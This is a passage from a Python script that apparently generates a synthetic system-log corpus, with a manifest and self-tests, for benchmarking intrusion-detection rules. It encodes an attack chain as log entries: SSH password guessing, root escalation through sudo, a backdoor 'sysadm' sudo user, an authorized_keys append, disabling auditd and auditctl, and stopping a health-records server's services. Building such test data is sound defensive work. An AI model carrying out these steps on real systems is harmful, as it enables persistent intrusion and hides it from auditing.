            steps = [(self.step(sid, c, name, tech, desc, exp, allow), delay) for sid, name, tech, desc, exp, allow, delay in spec]

            def a1(t):
                # hydra-like: a new connection every 1.5 s, three passwords in each (2.4 s apart), so about
                # five connections at once and two attempts a second.
                for conn in range(27):
                    pid, port = self.nextpid_sr(), self.sr.randint(1024, 65535)
                    tc = t + conn * 1_500_000 + self.sr.randint(0, 200_000)
                    for k in range(3):
                        self.ssh_fail(tc + k * 2_400_000, ip, "asmith", port, pid, closes=False)
                    self.ssh(tc + 7_300_000, "Connection closed by authenticating user asmith %s port %d [preauth]" % (ip, port), pid)
                    self.ssh(tc + 7_300_500, "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=asmith" % ip, pid, prio=5)

            def a2(t):
                shell, s, pid, port, t = self.ssh_login(t, ip, "asmith", 1002)
                st.update(shell=shell, s=s, pid=pid, port=port)
                self.spawn(t + 8 * SEC, shell, ["id"], "/usr/bin/id")
                self.spawn(t + 15 * SEC, shell, ["cat", "/etc/os-release"], "/usr/bin/cat")

            def a3(t):
                st["root"] = self.sudo_root_shell(t, st["shell"], "asmith", 1002, st["s"])

            def a4(t):
                r = st["root"]
                u = self.spawn(t, r, ["useradd", "-m", "-s", "/bin/bash", "sysadm"], "/usr/sbin/useradd")
                sub = {"{S}": str(st["s"]), "{U}": "sysadm"}
                for path in ("/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow"):
                    self.open_write(t + 6000, u, path + "+", "identity")
                for i, m in enumerate(["new group: name=sysadm, GID=1007",
                                       "new user: name=sysadm, UID=1007, GID=1007, home=/home/sysadm, shell=/bin/bash, from=/dev/%s"
                                       % r.tty.replace("pts", "pts/")]):
                    self.cemit(t + 9000 + i * 400, "useradd", "useradd", m, pid=u.pid, subst=sub)
                self.audit(t + 11_000, [("ADD_USER", "pid=%d uid=0 auid=1002 ses=%d subj=unconfined msg='op=add-user id=1007 "
                                                     "exe=\"/usr/sbin/useradd\" hostname=%s addr=? terminal=%s res=success'"
                                         % (u.pid, st["s"], gj.HOST, r.tty.replace("pts", "pts/")))])
                p = self.spawn(t + 20 * SEC, r, ["passwd", "sysadm"], "/usr/bin/passwd")
                self.cemit(t + 31 * SEC, "passwd", "passwd", "pam_unix(passwd:chauthtok): password changed for sysadm", pid=p.pid, subst=sub)

            def a5(t):
                r = st["root"]
                u = self.spawn(t, r, ["usermod", "-aG", "sudo", "sysadm"], "/usr/sbin/usermod")
                sub = {"{S}": str(st["s"]), "{U}": "sysadm"}
                for path in ("/etc/group", "/etc/gshadow"):
                    self.open_write(t + 5000, u, path + "+", "identity")
                self.cemit(t + 8000, "usermod", "usermod", "add 'sysadm' to group 'sudo'", pid=u.pid, subst=sub)
                self.cemit(t + 8400, "usermod", "usermod", "add 'sysadm' to shadow group 'sudo'", pid=u.pid, subst=sub)

            def a6(t):
                self.open_write(t, st["root"], "/root/.ssh/authorized_keys", "ssh_keys", create=False, append=True)

            def a7(t):
                r = st["root"]
                self.spawn(t, r, ["systemctl", "stop", "auditd"], "/usr/bin/systemctl")
                self.sysd(t + 20_000, "Stopping auditd.service - Security Auditing Service...", "auditd.service")
                auditd = Proc(612, 1, 0, 4294967295, 4294967295, "(none)", "/", "/usr/sbin/auditd", ["/sbin/auditd"], comm="auditd")
                self.sendto_config(t + 60_000, auditd, ["op=set audit_pid=0 old=612 auid=4294967295 ses=4294967295 subj=unconfined res=1"])
                self.audit(t + 90_000, [("SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=auditd "
                                                         "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")])
                self.sysd(t + 91_000, "auditd.service: Deactivated successfully.", "auditd.service")
                self.sysd(t + 92_000, "Stopped auditd.service - Security Auditing Service.", "auditd.service")

            def a8(t):
                a = self.spawn(t, st["root"], ["auditctl", "-e", "0"], "/usr/sbin/auditctl", key="audit_tools")
                self.sendto_config(t + 3000, a, ["op=set audit_enabled=0 old=1 auid=1002 ses=%d subj=unconfined res=1" % st["s"]])

            def a9(t):
                units = [("ehr-api.service", "EHR REST API"),
                         ("nginx.service", "A high performance web server and a reverse proxy server"),
                         ("postgresql@15-main.service", "PostgreSQL Cluster 15-main"), ("cron.service", "Regular background program processing daemon"),
                         ("rsyslog.service", "System Logging Service"), ("fail2ban.service", "Fail2Ban Service"),
                         ("prometheus-node-exporter.service", "Prometheus exporter for machine metrics"),
                         ("redis-server.service", "Advanced key-value store"), ("docker.service", "Docker Application Container Engine"),
                         ("containerd.service", "containerd container runtime"), ("chrony.service", "chrony, an NTP client/server"),
                         ("unattended-upgrades.service", "Unattended Upgrades Shutdown")]
                for i, (unit, desc) in enumerate(units):
                    tu = t + i * 2_400_000
                    self.sysd(tu, "Stopping %s - %s..." % (unit, desc), unit)
                    self.sysd(tu + 300_000, "%s: Deactivated successfully." % unit, unit)
                    self.sysd(tu + 301_000, "Stopped %s - %s." % (unit, desc), unit)
                self.ssh_logout(t + 120 * SEC, ip, "asmith", st["s"], st["pid"], st["port"])

            t = t0
            for (s, delay), fn in zip(steps, [a1, a2, a3, a4, a5, a6, a7, a8, a9]):
                t += delay * SEC + (self.sr.randint(0, 5 * SEC) if delay else 0)
                self.at(t, s, fn)

        # ---------- driver ----------
        def run(self, write):
            self.plan()
            super().run(write)
            if self.pending or self.sched:
                raise SystemExit("scenarios: -n %d is too small: %d chain actions were never reached" %
                                 (self.n, len(self.pending) + len(self.sched)))

        def manifest(self):
            noise_entries = sum(v["entries"] for v in self.noise.values())
            return {
                "format": 1,
                "generator": "scripts/scenarios.py",
                "seed": self.seed, "n": self.n, "start": self.start, "time_scale": self.scale,
                "host": gj.HOST, "machine_id": gj.MACHINE_ID,
                "time_range": [self.first_rt, self.last_rt],
                "tail_us": TAIL_US,
                "entries": {"total": self.count, "chain": self.chain_entries, "noise": noise_entries,
                            "benign": self.count - self.chain_entries - noise_entries},
                "catalogue": CATALOGUE,
                "steps": sorted(self.steps, key=lambda s: (s["start"] or 0, s["id"])),
                "noise": [{"kind": k, "rules": NOISE_RULES[k], "entries": v["entries"], "ranges": v["ranges"]}
                          for k, v in self.noise.items()],
            }

    return Corpus


def load_generators(gen_journal=None):
    gj = load_module("gen_journal", gen_journal or gen_journal_path())
    ae = load_module("audit_export", os.path.join(HERE, "audit-export.py"))
    return gj, ae, make_corpus_class(gj, ae)


def generate(args, write):
    gj, ae, Corpus = load_generators(args.gen_journal)
    g = Corpus(args.seed, args.n, args.start, args.time_scale)
    g.run(write)
    return g


def validate(manifest):
    """Problems with a manifest: catalogue coverage, ordering, steps that emitted nothing."""
    problems = []
    covered = {r for s in manifest["steps"] for r in s["expect"]}
    for name in ALL_RULES:
        if name not in covered:
            problems.append("catalogue rule %s is expected by no step" % name)
    last = {}
    for s in sorted(manifest["steps"], key=lambda s: s["order"]):
        if s["start"] is None or s["entries"] == 0:
            problems.append("step %s emitted no entry" % s["id"])
            continue
        if s["start"] < last.get(s["chain"], 0):
            problems.append("step %s starts before the step of its chain defined before it" % s["id"])
        last[s["chain"]] = s["start"]
        if s["end"] < s["start"]:
            problems.append("step %s ends before it starts" % s["id"])
        for r in s["expect"] + s["allow"]:
            if r not in ALL_RULES:
                problems.append("step %s names %s, which is not in the catalogue" % (s["id"], r))
    e = manifest["entries"]
    if e["benign"] <= 0 or e["total"] != manifest["n"]:
        problems.append("entry counts are off: %s" % e)
    return problems


def journal_remote_accepts(what, export):
    """Self-test: whether systemd-journal-remote (when installed) takes `export()`'s bytes; prints the result.
    `export` is called only when it is installed."""
    remote = "/lib/systemd/systemd-journal-remote"
    if not os.path.exists(remote):
        return True
    with tempfile.TemporaryDirectory() as d:
        p = subprocess.run([remote, "--output=%s/t.journal" % d, "-"], input=export(),
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    print("self-test: systemd-journal-remote %s" % ("accepted " + what if p.returncode == 0 else
                                                     "FAILED: " + p.stderr.decode(errors="replace")[-300:]))
    return p.returncode == 0


def self_test(args):
    n = 60_000
    ok = True
    outs = []
    for _ in range(2):
        h = hashlib.sha256()
        a = argparse.Namespace(**vars(args))
        a.n = n
        g = generate(a, h.update)
        outs.append((h.hexdigest(), json.dumps(g.manifest(), sort_keys=True)))
    print("self-test: -n %d twice: output %s, manifest %s" % (
        n, "identical" if outs[0][0] == outs[1][0] else "DIFFERS", "identical" if outs[0][1] == outs[1][1] else "DIFFERS"))
    ok &= outs[0] == outs[1]
    manifest = json.loads(outs[0][1])
    problems = validate(manifest)
    for p in problems:
        print("self-test: " + p)
    ok &= not problems
    print("self-test: %d steps, %d catalogue rules covered, entries %s" % (
        len(manifest["steps"]), len({r for s in manifest["steps"] for r in s["expect"]}), manifest["entries"]))
    # The audit groups must survive systemd-journal-remote (when installed) unchanged in number.
    def corpus():
        a = argparse.Namespace(**vars(args))
        a.n = n
        chunks = []
        generate(a, chunks.append)
        return b"".join(chunks)
    ok &= journal_remote_accepts("the corpus", corpus)
    print("self-test: %s" % ("PASS" if ok else "FAIL"))
    return 0 if ok else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("-n", type=int, default=1_000_000, help="background entries (default 1000000; chains add a few thousand "
                                                             "within the same count)")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--start", type=int, default=1709251200, help="first timestamp, unix seconds (default 2024-03-01)")
    ap.add_argument("--time-scale", type=float, default=11.0,
                    help="stretch gen_journal's gaps between background entries (default 11: 1M entries ~ 10 days)")
    ap.add_argument("--manifest", help="write the manifest (JSON) here")
    ap.add_argument("--gen-journal", help="path of gen_journal.py (default $SHARED/bench/gen_journal.py, SHARED=../shared)")
    ap.add_argument("--self-test", action="store_true", help="determinism, catalogue coverage, step order; exit 1 on a problem")
    args = ap.parse_args()
    if args.self_test:
        sys.exit(self_test(args))
    if args.n < 50_000:
        ap.error("-n must be at least 50000 (the chains need room)")
    t0 = time.time()
    out = sys.stdout.buffer
    g = generate(args, out.write)
    out.flush()
    m = g.manifest()
    problems = validate(m)
    if args.manifest:
        with open(args.manifest, "w") as f:
            json.dump(m, f, indent=1)
            f.write("\n")
    sys.stderr.write("scenarios: %d entries (%d in %d steps, %d noise, %d benign) over %.1f days in %.1fs\n" % (
        m["entries"]["total"], m["entries"]["chain"], len(m["steps"]), m["entries"]["noise"], m["entries"]["benign"],
        (m["time_range"][1] - m["time_range"][0]) / 86400e6, time.time() - t0))
    for p in problems:
        sys.stderr.write("scenarios: manifest: %s\n" % p)
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
